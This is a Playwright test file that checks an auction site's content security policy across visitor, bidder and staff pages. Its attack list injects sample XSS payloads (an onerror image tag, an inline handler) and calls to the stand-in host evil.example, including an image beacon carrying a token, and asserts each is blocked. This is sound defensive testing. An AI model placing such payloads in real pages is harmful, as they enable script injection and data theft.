import { APP_PORT } from "../support/app-url.ts";
import { auctioneer } from "../support/auctioneer.ts";
import { LotScreen, lotAddress } from "../support/lot-screen.ts";
import { storedSession } from "../support/stored-session.ts";
import { expect, test } from "../support/test.ts";

const ADMIN_URL = `http://admin.localhost:${APP_PORT}`;

// Every journey fails on a violation (support/test.ts); these tests visit the pages that no other journey opens.
test.describe("the content security policy", () => {
  test("allows everything that a visitor sees and opens", async ({ page, sale }) => {
    test.slow();
    const auction = await sale();
    const lists = ["", "publications/", "publications/closed", "search?q=heftruck", `auction/${auction.auctionId}/`];
    const pages = ["about", "rules", "login", "register", "forgotPassword", "404"];
    for (const path of [...lists, ...pages]) {
      await page.goto(`/nl/${path}`);
      await expect(page.getByRole("main").getByRole("heading", { level: 1 })).toBeVisible();
      await page.waitForLoadState("networkidle");
    }
    await page.goto(lotAddress(auction));
    await expect(page.getByRole("main").getByRole("heading", { level: 1 })).toBeVisible();
    await page.getByRole("banner").getByRole("button", { name: "Donkere weergave" }).click();
    await page
      .getByRole("searchbox")
      .or(page.getByRole("combobox", { name: /zoek/i }))
      .first()
      .fill("heftruck");
    await expect(page.getByRole("option").first()).toBeVisible();
  });

  test("allows a bidder to bid and to see the account", async ({ openAs, newUser, sale }) => {
    test.slow();
    const [anna, auction] = await Promise.all([newUser(), sale()]);
    const page = await openAs(anna);
    const lot = await new LotScreen(page).open(auction);
    await lot.bid(100);
    await lot.expectLeading();
    await lot.autoBid(500);
    for (const path of [
      "account/",
      "account/addresses/",
      "account/addresses/edit",
      "account/notifications",
      "favorites/",
    ]) {
      await page.goto(`/nl/${path}`);
      await expect(page.getByRole("main").getByRole("heading", { level: 1 })).toBeVisible();
      await page.waitForLoadState("networkidle");
    }
  });

  test("allows the staff's start page", async ({ openAs }) => {
    const page = await openAs(auctioneer(), { storageState: storedSession(auctioneer(), { origin: ADMIN_URL }) });
    await page.goto(`${ADMIN_URL}/nl/`);
    await expect(page.getByRole("main").getByRole("heading", { level: 1 })).toBeVisible();
  });

  const ATTACKS: [string, () => void][] = [
    [
      "a style sheet of another host",
      () =>
        void document.body.appendChild(
          Object.assign(document.createElement("link"), { rel: "stylesheet", href: "https://evil.example/x.css" }),
        ),
    ],
    ["HTML written as text", () => document.body.insertAdjacentHTML("beforeend", "<img src=x onerror=alert(1)>")],
    ["an inline handler", () => document.createElement("a").setAttribute("onclick", "alert(1)")],
    [
      "a picture that reports to another host",
      () => {
        new Image().src = "https://evil.example/?token";
      },
    ],
    ["a request to another host", () => void fetch("https://evil.example/").catch(() => undefined)],
    [
      "a frame",
      () =>
        void document.body.appendChild(
          Object.assign(document.createElement("iframe"), { src: "https://evil.example/" }),
        ),
    ],
  ];
  for (const [name, attack] of ATTACKS) {
    test(`blocks ${name}, and the violation is recorded`, async ({ page, violations }) => {
      await page.goto("/nl/about");
      await expect(page.getByRole("main").getByRole("heading", { level: 1 })).toBeVisible();
      // Where text would become HTML or script, the assignment throws.
      await page.evaluate(attack).catch(() => undefined);
      await expect.poll(() => violations.length).toBeGreaterThan(0);
      violations.length = 0;
    });
  }

  test("keeps another page from framing a lot's page", async ({ page, sale }) => {
    const auction = await sale();
    await page.route("http://evil.localhost/", (route) =>
      route.fulfill({
        contentType: "text/html",
        body: `<iframe src="http://localhost:${APP_PORT}${lotAddress(auction)}"></iframe>`,
      }),
    );
    await page.goto("http://evil.localhost/");
    const frame = page.frames()[1];
    await expect.poll(() => frame?.url()).toContain("chrome-error://");
  });
});
